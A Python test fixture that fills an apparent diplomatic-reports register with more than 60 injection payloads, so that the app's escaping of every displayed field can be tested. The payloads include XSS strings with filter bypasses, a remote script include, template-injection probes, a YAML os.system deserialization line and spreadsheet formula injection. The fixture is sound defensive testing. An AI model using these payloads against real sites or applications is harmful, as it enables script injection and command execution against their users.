"""Reports that try to do something to the browser of whoever reads them.

Each payload would call `alert` with its own number, or put an element called `x-fired` into the page.
"""

from collections.abc import Iterator
from datetime import date, timedelta
from html import escape
from pathlib import Path
from typing import Any

import yaml

from dragoman.model.document import Document
from dragoman.model.reading import (
    Actor,
    Commitment,
    Engagement,
    Party,
    Passage,
    Place,
    Post,
    Reading,
    Report,
    Statement,
    Tie,
    Topic,
)
from dragoman.pipeline import reader_named, record
from dragoman.reading.sources import iter_documents
from dragoman.register.filters import Filter
from dragoman.register.searches import save_search
from dragoman.register.store import Register
from dragoman.review.deciders import Decider
from dragoman.review.deciding import accept, add, correct, reject
from dragoman.review.naming import find_facts

_MARKUP = """
<script>alert({n})</script>
<ScRiPt>alert({n})</sCrIpT>
<script src=//x.example/{n}.js></script>
<script type=module>alert({n})</script>
</script><script>alert({n})</script>
</title><script>alert({n})</script>
</textarea><script>alert({n})</script>
</style><script>alert({n})</script>
</noscript><script>alert({n})</script>
--><script>alert({n})</script>
]]><script>alert({n})</script>
<img src=x onerror=alert({n})>
<img/src=x/onerror=alert({n})>
<img src="x` `<script>alert({n})</script>"` `>
<image src=x onerror=alert({n})>
<svg onload=alert({n})>
<svg/onload=alert({n})>
<svg><script>alert({n})</script></svg>
<svg><animate onbegin=alert({n}) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert({n})"><text y=20>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert({n})></style></mglyph></table></mtext></math>
<body onload=alert({n})>
<body onpageshow=alert({n})>
<iframe src="javascript:alert({n})"></iframe>
<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>
<object data="javascript:alert({n})"></object>
<embed src="javascript:alert({n})">
<link rel=stylesheet href="javascript:alert({n})">
<meta http-equiv=refresh content="0;url=javascript:alert({n})">
<base href="https://x.example/{n}/">
<form action="javascript:alert({n})"><button autofocus>x</button></form>
<form><button formaction="javascript:alert({n})">x</button></form>
<input autofocus onfocus=alert({n})>
<select autofocus onfocus=alert({n})></select>
<textarea autofocus onfocus=alert({n})></textarea>
<details open ontoggle=alert({n})>x</details>
<video src=x onerror=alert({n})></video>
<video><source onerror=alert({n})></video>
<audio src=x onerror=alert({n})></audio>
<marquee onstart=alert({n})>x</marquee>
<x-fired id="x{n}" onclick=alert({n})>x</x-fired>
<x-fired tabindex=1 onfocus=alert({n}) autofocus>x</x-fired>
<a href="javascript:alert({n})">x</a>
<a href="&#106;avascript:alert({n})">x</a>
<a href="data:text/html,<script>alert({n})</script>">x</a>
<div hx-get="javascript:alert({n})" hx-trigger=load>x</div>
<div hx-on:load="alert({n})" hx-on::load="alert({n})">x</div>
<div hx-get="/login" hx-trigger="load[alert({n})]" hx-vals="js:{{a: alert({n})}}">x</div>
<template shadowrootmode=open><script>alert({n})</script></template>
<style>@import 'javascript:alert({n})'; x-fired {{ display: block }}</style>
<p style="background: url(javascript:alert({n}))">x</p>
<isindex type=image src=x onerror=alert({n})>
"""
_BREAKING_OUT = """
" onmouseover="alert({n})" autofocus onfocus="alert({n})" x="
' onmouseover='alert({n})' autofocus onfocus='alert({n})' x='
` onmouseover=alert({n}) autofocus onfocus=alert({n}) x=`
"><x-fired id=x{n}></x-fired><img src=x onerror=alert({n})>
'><x-fired id=x{n}></x-fired><img src=x onerror=alert({n})>
x onmouseover=alert({n}) x
&lt;script&gt;alert({n})&lt;/script&gt;
&#60;script&#62;alert({n})&#60;/script&#62;
%3Cscript%3Ealert({n})%3C/script%3E
\\u003cscript\\u003ealert({n})\\u003c/script\\u003e
\\"-alert({n})//
';alert({n});//
</a></bdi></p></div></main><x-fired id=x{n}></x-fired><script>alert({n})</script>
{{{{ 7 * 7 }}}} {{% import os %}} {{{{ cycler.__init__.__globals__ }}}} alert({n})
${{alert({n})}} #{{alert({n})}} <%= alert({n}) %>
javascript:alert({n})
JaVaScRiPt:alert({n})//
javascript://x.example/%0aalert({n})
data:text/html,<script>alert({n})</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}
vbscript:alert({n})
https://x.example/"onmouseover="alert({n})
!!python/object/apply:os.system ["touch fired-{n}"]
*alert{n} &alert{n} !!js/function "function() {{ alert({n}) }}"
=HYPERLINK("javascript:alert({n})")
+cmd|' /C calc'!A{n}
\u202e<script>alert({n})</script>\u202c
\u2066tp\u2069<img src=x onerror=alert({n})>\u200b
\uff1cscript\uff1ealert({n})\uff1c/script\uff1e
<scr\u00adipt>alert({n})</scr\u00adipt>
"""
PAYLOADS = tuple(
    line.format(n=number)
    for number, line in enumerate([*_MARKUP.strip().split("\n"), *_BREAKING_OUT.strip().split("\n")], 1)
)
"""More than 60, in every position where a page may show what a report says."""


def fill(path: Path, folder: Path) -> None:
    """A register with all of them: read from files as any report is, recorded as a reader may propose, and decided."""
    files = [str(file) for number, payload in enumerate(PAYLOADS, 1) for file in _files(folder, number, payload)]
    reader = reader_named("rules")
    with Register.open(str(path), create=True) as register:
        for document in iter_documents(files):
            assert isinstance(document, Document), document
            record(document, register, reader)
        for number, payload in enumerate(PAYLOADS, 1):
            told = register.record(_reading(number, payload), f"x {payload}").report
            if number % 3 == 0:
                _decide(register, told, payload)
                save_search(register, f"search {payload}", Filter(words=payload), f"who {payload}")


def _day(number: int) -> date:
    """Each on a day of its own, so that none is taken for the same engagement."""
    return date(2024, 9, 1) - timedelta(days=9 * number)


def _letters(number: int) -> str:
    return "".join("bdgklmnrtz"[int(digit)] for digit in f"{number:02}")


def _files(folder: Path, number: int, payload: str) -> Iterator[Path]:
    """The payload as title, outlet, id, name, place and text of a report, and of a page."""
    text = (
        f"{payload}\n\nOn {_day(number):%-d %B %Y} the Foreign Minister of Kazakhstan, Nurlan Seit, met the Foreign "
        f"Minister of Latvia, Ilze Ozola {payload}, in Riga. They discussed {payload} and trade in grain. "
        f'"{payload}", said Nurlan Seit. Ilze Ozola thanked {payload} for the gift.\n'
    )
    front = {
        "id": f"x-{number}-{payload}",
        "published": _day(number).isoformat(),
        "outlet": f"Wire {payload}",
        "genre": "agency",
        "title": f"Title {payload}",
    }
    report = folder / f"x-{number}.report"
    report.write_text(f"---\n{yaml.safe_dump(front, allow_unicode=True)}---\n{text}", encoding="utf-8")
    yield report
    if number % 5 == 0:
        page = folder / f"x-{number}.html"
        paragraphs = "".join(f"<p>{escape(line)} Page {number}.</p>" for line in text.split("\n") if line)
        head = f"<title>{escape(payload)}</title><meta property='og:site_name' content='{escape(payload)}'>"
        page.write_text(
            f"<html lang=en><head>{head}</head><body><article>{paragraphs}</article></body></html>", encoding="utf-8"
        )
        yield page


def _reading(number: int, payload: str) -> Reading:
    """What a reader may propose, with the payload in every place that takes words."""
    other = f"Ilze O{_letters(number)}a"
    text = f"{payload} met {other}. They told {number}."
    document = Document(source=payload, text=text)
    words: dict[str, Any] = {"evidence": (document.span(0, len(payload)),), "confidence": 0.4, "finder": f"x:{payload}"}
    here: dict[str, Any] = {**words, "evidence": (document.span(len(payload) + 1, len(payload) + 4),)}
    return Reading(
        report=Report(
            source=payload,
            sha256=document.sha256,
            title=f"Told {payload}",
            published=_day(number).isoformat(),
            outlet=f"Post {payload}",
            attribution=(f"press {payload}",),
            passages=(Passage(language="fr", text=f"Beside {payload}"),),
            text=text,
        ),
        actors=(
            Actor(id="p1", kind="person", name=f"Anna {payload}", **words),
            Actor(id="p2", kind="person", name=other, **here),
            Actor(id="o1", kind="organisation", name=f"Ministry {payload}", **words),
            Actor(id="g1", kind="group", name=f"Group {payload}", **words),
        ),
        posts=(
            Post(holder="p1", title=f"Minister {payload}", organisation="o1", state="KAZ", **words),
            Post(holder="p2", title="Minister", state="LVA", **here),
        ),
        topics=(Topic(id="t1", phrase=f"trade {payload}", subjects=("other",), **words),),
        engagements=(
            Engagement(
                id="e1",
                form="meeting",
                status="held" if number % 3 else "scheduled",
                parties=(
                    Party(actor="p1", side=f"Side {payload}"),
                    Party(actor="p2", side="LVA"),
                    Party(actor="o1"),
                ),
                date=_day(number).isoformat(),
                date_basis="stated",
                place=Place(name=f"Riga {payload}", state="LVA"),
                topics=("t1",),
                **here,
            ),
        ),
        statements=(
            Statement(speaker="p1", addressee="p2", engagement="e1", act="pledge", content=f"said {payload}", **words),
        ),
        commitments=(
            Commitment(by=("p1",), to=("p2",), engagement="e1", kind="pledged", what=f"send {payload}", **here),
        ),
        ties=(Tie(from_="o1", to="g1", kind="partner", words=f"partner {payload}", **words),),
    )


def _decide(register: Register, report: int, payload: str) -> None:
    """Decisions of a person of that name, for such a reason, that add and correct facts."""
    by: dict[str, Any] = {"by": Decider(f"who {payload}"), "why": f"why {payload}"}
    add(register, report, "actors", ["kind=person", f"name=Added {payload}", "quote=They told"], **by)
    add(register, report, "topics", [f"phrase=added {payload}", "subjects=other", "quote=told"], **by)
    correct(register, find_facts(register, f"{report}/e1")[0], ["form=call", f"place=Corrected {payload}"], **by)
    accept(register, find_facts(register, f"{report}/s1"), **by)
    reject(register, find_facts(register, f"{report}/g1"), **by)
